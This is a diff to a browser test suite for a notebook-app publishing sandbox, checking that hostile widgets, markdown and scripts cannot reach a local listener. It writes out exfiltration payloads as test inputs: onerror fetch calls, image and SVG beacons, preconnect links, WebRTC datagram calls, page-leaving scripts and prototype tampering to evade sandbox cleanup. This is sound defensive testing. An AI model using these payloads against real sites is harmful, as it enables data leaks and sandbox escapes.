@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import json
 from collections.abc import AsyncIterator
+from contextlib import AsyncExitStack
 from html import escape
 from pathlib import Path
 
@@ -14,7 +15,7 @@ from playwright.async_api import Page, expect
 
 from microapps.publish import PublishedApp
 
-from .conftest import Listener, Served, inside, published, serve
+from .conftest import Listener, Served, inside, listening, published, serve
 
 pytestmark = [pytest.mark.anyio, pytest.mark.browser, pytest.mark.sandbox]
 
@@ -66,7 +67,9 @@ SENDING = {
     "cache": "caches.open('x')",
     "service worker": "navigator.serviceWorker.register('{url}/sw.js')",
 }
+WAYS = ["html widget", "display", "javascript", "markdown"]
 MARKUP = """
+<link rel="preconnect" href="{url}"><link rel="dns-prefetch" href="{url}">
 <img src="{url}/m-img" onerror="fetch('{url}/m-onerror')"><video src="{url}/m-video" poster="{url}/m-poster"></video>
 <svg><image href="{url}/m-svg"/><use href="{url}/m-use#x"/>
 <foreignObject><img src="{url}/m-foreign"></foreignObject></svg>
@@ -114,30 +117,25 @@ async def still_works(page: Page) -> None:
     await expect(inside(page).get_by_text("it does")).to_be_visible()
 
 
-@pytest.mark.parametrize("way", ["html widget", "display", "javascript", "markdown"])
-async def test_nothing_is_sent_out(way: str, served: Served, page: Page, listener: Listener, tmp_path: Path) -> None:
-    scripts = "\n".join(
+async def test_nothing_is_sent_out(served: Served, page: Page, listener: Listener, tmp_path: Path) -> None:
+    """By every way in which a page comes to a script: by a widget's HTML, by both kinds of output, in prose."""
+    sending = "\n".join(
         f"try {{ {attack(script, listener)} }} catch (e) {{ }}".join("{}") for script in SENDING.values()
     )
     markup = MARKUP.format(url=listener.url)
-    html = f"{markup}<script>{scripts}; window.attacked = true</script>"
-    by_image = f'<img src="data:," onerror="{escape(scripts + "; window.attacked = true")}">{markup}'
-    cells = {
-        "html widget": [f"display(w.HTML({by_image!r}))"],
-        "display": [
-            f"display(HTML({html!r}))",
-            f"display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\">{''}</svg>'))",
-        ],
-        "javascript": [
-            f"display(Javascript({(scripts + '; window.attacked = true')!r}))",
-            f"display(HTML({markup!r}))",
-        ],
-        "markdown": [f"#md # Title\n\n{html}\n\n![x]({listener.url}/md)"],
-    }[way]
+    scripts = {way: f"{sending}; (window.attacked ??= []).push('{way}')" for way in WAYS}
+    by_image = f'<img src="data:," onerror="{escape(scripts["html widget"])}">{markup}'
+    drawing = '<svg xmlns="http://www.w3.org/2000/svg"></svg>'
+    cells = [
+        f"#md # Title\n\n{markup}<script>{scripts['markdown']}</script>\n\n![x]({listener.url}/md)",
+        f"display(w.HTML({by_image!r}))",
+        f"display(HTML({markup + '<script>' + scripts['display'] + '</script>'!r}))\ndisplay(SVG({drawing!r}))",
+        f"display(Javascript({scripts['javascript']!r}))\ndisplay(HTML({markup!r}))",
+    ]
     await visit(served, page, published(tmp_path, "hostile", WIDGETS, *cells, scripts=True))
     await inside(page).get_by_role("button", name="Still works").wait_for()
+    await page.frames[1].wait_for_function("ways => ways.every((way) => window.attacked?.includes(way))", arg=WAYS)
     await anyio.sleep(1.0)
-    assert await page.frames[1].evaluate("window.attacked === true"), "the attack itself did not run"
     await still_works(page)
     assert listener.heard == []
     assert len(page.context.pages) == 1
@@ -147,10 +145,11 @@ async def test_nothing_is_sent_out(way: str, served: Served, page: Page, listene
 @pytest.mark.parametrize("way", LEAVING)
 async def test_the_page_cannot_leave(way: str, served: Served, page: Page, listener: Listener, tmp_path: Path) -> None:
     script = attack(LEAVING[way], listener)
-    html = f"<script>setTimeout(() => {{ try {{ {script} }} catch (e) {{}} }}, 200)</script>"
-    await visit(served, page, published(tmp_path, "leaving", WIDGETS, f"display(HTML({html!r}))", scripts=True))
-    await inside(page).locator("body").wait_for(state="attached")
-    await anyio.sleep(2.0)
+    html = f"<script>setTimeout(() => {{ console.log('leaving'); try {{ {script} }} catch (e) {{}} }}, 200)</script>"
+    app = published(tmp_path, "leaving", WIDGETS, f"#md {html}", scripts=True)
+    async with page.expect_console_message(lambda message: message.text == "leaving"):
+        await visit(served, page, app)
+    await anyio.sleep(1.0)
     assert listener.heard == []
     assert page.url.startswith(served.site.url)
 
@@ -166,39 +165,43 @@ CALLING = {
     "markup": "document.body.insertAdjacentHTML('beforeend', FRAMED)",
     "a shadow": "const d = document.createElement('div'); document.body.append(d); "
     "d.attachShadow({mode: 'closed'}).innerHTML = FRAMED",
-    "a tampered page": "Element.prototype.remove = Document.prototype.querySelector = () => null; "
-    "window.MutationObserver = null; document.body.insertAdjacentHTML('beforeend', FRAMED)",
     "an empty frame": "const f = document.createElement('iframe'); document.body.append(f); "
-    "const W = window[0]; RTCPeerConnection = W.RTCPeerConnection; " + CALL,
+    "const W = window[window.length - 1]; RTCPeerConnection = W.RTCPeerConnection; " + CALL,
 }
+TAMPERING = (
+    "Element.prototype.remove = Document.prototype.querySelector = () => null; window.MutationObserver = null; "
+    "document.body.insertAdjacentHTML('beforeend', FRAMED)"
+)
 
 
-@pytest.mark.parametrize("way", CALLING)
-async def test_no_datagram_leaves(way: str, served: Served, page: Page, listener: Listener, tmp_path: Path) -> None:
-    script = CALLING[way].replace("FRAMED_SCRIPT", json.dumps(f"<script>{CALL}</script>"))
-    script = script.replace("FRAMED", json.dumps(FRAMED)).replace("PORT", str(listener.port))
-    await visit(served, page, published(tmp_path, "rtc", WIDGETS, f"display(Javascript({script!r}))", scripts=True))
-    await still_works(page)
-    await anyio.sleep(2.0)
-    assert listener.heard == []
+def calling(script: str, listener: Listener) -> str:
+    """A cell whose output runs a script that calls the listener."""
+    ready = script.replace("FRAMED_SCRIPT", json.dumps(f"<script>{CALL}</script>")).replace(
+        "FRAMED", json.dumps(FRAMED)
+    )
+    return f"display(Javascript({ready.replace('PORT', str(listener.port)).join('{}')!r}))"
 
 
-async def test_no_datagram_leaves_a_frame_of_the_page(
+async def test_no_datagram_leaves(served: Served, page: Page, tmp_path: Path) -> None:
+    """By no way; each has a listener of its own, so that a failure names it."""
+    async with AsyncExitStack() as stack:
+        ways = [*CALLING, "the page's own frame", "prose"]
+        listeners = {way: await stack.enter_async_context(listening()) for way in ways}
+        framed = {way: FRAMED.replace("PORT", str(listeners[way].port)) for way in ways}
+        cells = [calling(script, listeners[way]) for way, script in CALLING.items()]
+        cells = [f"#md {framed['prose']}", f"display(HTML({framed[ways[-2]]!r}))", *cells]
+        await visit(served, page, published(tmp_path, "rtc", WIDGETS, *cells, scripts=True))
+        await still_works(page)
+        await anyio.sleep(2.0)
+        assert {way: listener.heard for way, listener in listeners.items()} == {way: [] for way in ways}
+
+
+async def test_no_datagram_leaves_a_tampered_page(
     served: Served, page: Page, listener: Listener, tmp_path: Path
 ) -> None:
-    html = FRAMED.replace("PORT", str(listener.port))
-    app = published(tmp_path, "rtc", WIDGETS, f"display(HTML({html!r}))", f"#md {html}", scripts=True)
-    await visit(served, page, app)
+    await visit(served, page, published(tmp_path, "rtc", WIDGETS, calling(TAMPERING, listener), scripts=True))
     await still_works(page)
     await anyio.sleep(2.0)
-    assert listener.heard == []
-
-
-async def test_no_connection_is_opened_ahead(served: Served, page: Page, listener: Listener, tmp_path: Path) -> None:
-    html = f"<link rel=preconnect href={listener.url}><link rel=dns-prefetch href={listener.url}>"
-    await visit(served, page, published(tmp_path, "ahead", WIDGETS, f"display(HTML({html!r}))"))
-    await still_works(page)
-    await anyio.sleep(1.0)
     assert listener.heard == []
 
 
